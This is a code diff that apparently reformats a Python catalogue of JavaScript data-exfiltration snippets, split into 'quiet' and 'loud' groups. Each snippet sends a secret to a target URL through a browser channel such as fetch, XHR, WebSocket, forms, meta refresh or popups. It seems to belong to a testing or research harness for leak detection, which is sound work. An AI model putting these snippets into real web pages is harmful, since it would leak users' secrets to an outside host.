@@ -4,7 +4,8 @@ from __future__ import annotations
 
 QUIET = {
     "fetch": "fetch(`${target}/fetch?${secret}`, { mode: 'no-cors' })",
-    "fetch-keepalive": "fetch(`${target}/fetch-keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: secret })",
+    "fetch-keepalive": """
+        fetch(`${target}/fetch-keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: secret })""",
     "xhr": "{ const x = new XMLHttpRequest(); x.open('GET', `${target}/xhr?${secret}`); x.send(); }",
     "websocket": "new WebSocket(`${target}/websocket?${secret}`.replace('http', 'ws'))",
     "eventsource": "new EventSource(`${target}/eventsource?${secret}`)",
@@ -31,8 +32,12 @@ LOUD = {
     "self-navigation": "location.href = `${target}/self-navigation?${secret}`",
     "link": "{ const a = add('a'); a.href = `${target}/link?${secret}`; a.click(); }",
     "refresh": "Object.assign(add('meta'), { httpEquiv: 'refresh', content: `0;url=${target}/refresh?${secret}` })",
-    "form": "{ const f = add('form'); f.action = `${target}/form`; f.method = 'POST'; f.append(input(secret)); f.submit(); }",
-    "form-in-tab": "{ const f = add('form'); f.action = `${target}/form-in-tab`; f.target = '_blank'; f.append(input(secret)); f.submit(); }",
+    "form": """
+        { const f = Object.assign(add('form'), { action: `${target}/form`, method: 'POST' });
+          f.append(input(secret)); f.submit(); }""",
+    "form-in-tab": """
+        { const f = Object.assign(add('form'), { action: `${target}/form-in-tab`, target: '_blank' });
+          f.append(input(secret)); f.submit(); }""",
     "popup": "open(`${target}/popup?${secret}`)",
     "top-navigation": "top.location.href = `${target}/top-navigation?${secret}`",
 }
